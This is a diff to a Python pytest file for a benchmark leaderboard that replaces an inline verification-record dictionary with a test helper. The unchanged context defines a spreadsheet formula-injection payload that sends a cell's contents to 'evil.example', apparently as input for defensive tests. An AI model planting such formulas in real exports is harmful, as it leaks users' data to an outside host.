@@ -9,11 +9,11 @@ from pathlib import Path
 
 import pytest
 
-from benchmark.hashing import sha256_file
-from benchmark.records import RECORD_FORMAT, record_name
+from benchmark.records import record_name
 from benchmark.results import read_results, scores_path
 from leaderboard.build import build_site
 from leaderboard.collect import collect
+from tests.records import verification_record
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -62,27 +62,7 @@ def test_a_symlinked_reported_csv_from_outside_is_skipped(results, tmp_path):
 def test_a_symlinked_verification_record_from_outside_is_not_used(results, tmp_path):
     target = results / "demo.parquet"
     run_id = read_results(target)["run_id"].iloc[0]
-    record = {
-        "format": RECORD_FORMAT,
-        "run_id": run_id,
-        "status": "verified",
-        "entry_file": target.name,
-        "entry_sha256": sha256_file(target),
-        "tolerance": 0.005,
-        "max_abs_diff": 0.0,
-        "compared": 1,
-        "mismatches": [],
-        "warnings": [],
-        "checked_at": "2026-01-01T00:00:00+00:00",
-        "reproduced": {
-            "run_id": "0123456789abcdef",
-            "oodbench_version": "0.1.0",
-            "git_commit": "",
-            "device": "cpu",
-            "precision": "fp32",
-            "package_versions": {},
-        },
-    }
+    record = verification_record(target, compared=1)
     name = record_name(entry_sha256=record["entry_sha256"], run_id=run_id)
     outside = tmp_path / "elsewhere" / name
     outside.parent.mkdir()
